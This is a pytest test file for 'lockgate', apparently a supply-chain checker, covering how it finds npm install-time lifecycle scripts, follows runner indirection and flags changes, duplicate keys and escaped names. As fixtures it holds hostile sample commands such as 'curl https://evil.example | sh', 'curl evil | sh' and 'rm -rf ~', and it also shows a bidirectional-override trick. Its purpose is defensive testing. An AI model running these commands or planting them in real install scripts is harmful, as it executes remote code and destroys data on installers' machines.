"""The scripts an install runs: lifecycle scripts of every package.json lockgate reads, and the scripts they run
through ``npm run`` and its kin, as config dependencies npm.scripts.<name> (checker/manifests/npm_scripts.py)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from checker.diff.changes import diff_dependencies
from checker.errors import ManifestError
from checker.manifests.npm_scripts import reached_scripts
from checker.manifests.package_json import parse
from checker.model import Dependency

FIXTURES = Path(__file__).parent / "fixtures" / "package_json"


def scripts_of(text: str, path: str = "package.json") -> list[tuple[str, str | None, int | None]]:
    deps = parse(text, path, lambda _: None).dependencies
    return [(d.name, d.version, d.line) for d in deps if d.ecosystem == "config"]


def config(scripts: dict) -> list[Dependency]:
    text = json.dumps({"name": "app", "scripts": scripts}, indent=2)
    return [d for d in parse(text, "package.json", lambda _: None).dependencies if d.ecosystem == "config"]


def test_lifecycle_scripts_are_config_dependencies_and_others_are_not() -> None:
    deps = config({"build": "tsc", "test": "jest", "preinstall": "npx only-allow pnpm", "postinstall": "husky",
                   "prepare": "node setup.js", "dependencies": "echo changed", "pnpm:devPreinstall": "node check.js",
                   "prepublish": "tsc", "prepublishOnly": "npm test"})
    assert [(d.name, d.version, d.line, d.scope, d.direct, d.manifest) for d in deps] == [
        ("npm.scripts.preinstall", "npx only-allow pnpm", 6, "build", True, "package.json"),
        ("npm.scripts.postinstall", "husky", 7, "build", True, "package.json"),
        ("npm.scripts.prepare", "node setup.js", 8, "build", True, "package.json"),
        ("npm.scripts.dependencies", "echo changed", 9, "build", True, "package.json"),
        ("npm.scripts.pnpm:devPreinstall", "node check.js", 10, "build", True, "package.json"),
        ("npm.scripts.prepublish", "tsc", 11, "build", True, "package.json"),
    ]


def test_a_script_run_from_a_lifecycle_script_is_reported_with_its_pre_and_post_scripts() -> None:
    scripts = {"postinstall": "npm run evil", "preevil": "curl x", "evil": "node -e 'x'", "postevil": "echo",
               "unrelated": "jest"}
    assert reached_scripts(scripts) == {"postinstall", "preevil", "evil", "postevil"}
    # changing only "evil" is a change of what the install runs
    before = config(scripts)
    after = config({**scripts, "evil": "curl https://evil.example | sh"})
    [change] = diff_dependencies(before, after)
    assert (change.kind, change.name, change.before.version, change.after.version) == (
        "source-changed", "npm.scripts.evil", "node -e 'x'", "curl https://evil.example | sh")


@pytest.mark.parametrize(
    ("command", "reached"),
    [
        ("yarn build", {"build"}),
        ("pnpm run build && pnpm -r --filter x run gen", {"build", "gen"}),
        ("bun run build", {"build"}),
        ("npm run-script build -- --watch", {"build"}),
        ("npm test", {"test"}),
        ("run-s build:*", {"build:js", "build:css"}),
        ('npm-run-all --parallel "build:**" gen', {"build:js", "build:css", "gen"}),
        ('concurrently "npm:gen" "npm:build:js"', {"gen", "build:js"}),
        ("cross-env NODE_ENV=production npm run build", {"build"}),
        ("(cd web && npm run gen); echo done", {"gen"}),
        ("npm run 'gen'", {"gen"}),
        ('npm run "gen', {"gen"}),  # an unclosed quote: the shell would fail, lockgate still finds the name
        ('npm run "ge"n', {"gen"}),  # quotes join what they touch
        ('npm run g\\en "unclosed', {"gen"}),  # so does a backslash, even where shlex gives up
        ("node scripts/setup.js", set()),
    ],
)
def test_indirection_through_runners(command: str, reached: set[str]) -> None:
    scripts = {"postinstall": command, "build": "tsc", "build:js": "esbuild", "build:css": "sass", "gen": "x",
               "test": "jest"}
    assert reached_scripts(scripts) - {"postinstall"} == reached


def test_a_script_named_by_the_environment_may_be_any_script() -> None:
    scripts = {"prepare": "npm run $TARGET", "a": "x", "b": "y"}
    assert reached_scripts(scripts) == {"prepare", "a", "b"}
    assert reached_scripts({"prepare": "echo $HOME", "a": "x"}) == {"prepare"}  # no runner: nothing to reach


def test_a_command_too_long_to_split_cheaply_may_run_any_script() -> None:
    scripts = {"postinstall": "run-s " + "*a" * 20_000, "a": "x", "b": "y"}
    assert reached_scripts(scripts) == {"postinstall", "a", "b"}


def test_scripts_reached_in_a_cycle_end() -> None:
    assert reached_scripts({"prepare": "npm run a", "a": "npm run b", "b": "npm run a"}) == {"prepare", "a", "b"}


def test_the_command_is_kept_whole_and_escaped_only_where_a_report_could_not_show_it() -> None:
    [dep] = config({"postinstall": "node -e \"require('./x')\" && echo 'ok' > /dev/null"})
    assert dep.version == "node -e \"require('./x')\" && echo 'ok' > /dev/null"
    # a line break, a bidirectional override: escaped, and then the backslash too, so no two commands look alike
    [newline] = config({"postinstall": "echo a\nrm -rf ~"})
    [literal] = config({"postinstall": "echo a\\nrm -rf ~"})
    [bidi] = config({"postinstall": "echo \u202eevil"})
    assert (newline.version, literal.version, bidi.version) == ("echo a\\nrm -rf ~", "echo a\\\\nrm -rf ~",
                                                                  "echo \\u202eevil")
    assert newline.version != literal.version


def test_a_script_key_written_twice_is_refused() -> None:
    """JSON.parse keeps the last of two equal keys while a reviewer reads the first: the strict loader refuses."""
    text = '{\n  "scripts": {\n    "postinstall": "echo ok",\n    "postinstall": "curl evil | sh"\n  }\n}'
    with pytest.raises(ManifestError) as caught:
        parse(text, "package.json", lambda _: None)
    assert (caught.value.line, caught.value.message) == (
        4, "duplicate key 'postinstall': npm would silently keep the last one")


def test_a_lifecycle_key_spelled_with_an_escape_is_the_same_key() -> None:
    """\\u0070ostinstall is "postinstall" to JSON.parse, and to lockgate."""
    text = '{\n  "scripts": {\n    "\\u0070ostinstall": "curl evil | sh"\n  }\n}'
    assert scripts_of(text) == [("npm.scripts.postinstall", "curl evil | sh", 3)]


def test_scripts_that_are_not_an_object_or_not_strings() -> None:
    found = parse('{\n  "scripts": ["postinstall"]\n}', "package.json", lambda _: None)
    assert [(p.message, p.line) for p in found.problems] == [('"scripts" must be an object, found array', 2)]
    assert scripts_of('{"scripts": {"postinstall": {"cmd": "x"}}}') == [
        ("npm.scripts.postinstall", '{"cmd": "x"}', 1)]


def test_workspace_members_and_vendored_packages() -> None:
    member = '{\n  "name": "member",\n  "scripts": {"install": "node-gyp rebuild"}\n}'
    assert scripts_of(member, "packages/native/package.json") == [("npm.scripts.install", "node-gyp rebuild", 3)]
    assert scripts_of(member, "node_modules/native/package.json") == []


def test_real_next_js_package_json() -> None:
    """vercel/next.js (trimmed): postinstall and prepare; prepublishOnly and version do not run on install."""
    text = (FIXTURES / "nextjs" / "package.json").read_text(encoding="utf-8")
    assert scripts_of(text) == [
        ("npm.scripts.postinstall", "node scripts/git-configure.mjs && node scripts/install-native.mjs", 13),
        ("npm.scripts.prepare", "husky", 15),
    ]


def test_real_vision_camera_package_json_runs_no_install_script() -> None:
    text = (FIXTURES / "vision-camera" / "package.json").read_text(encoding="utf-8")
    assert scripts_of(text) == []
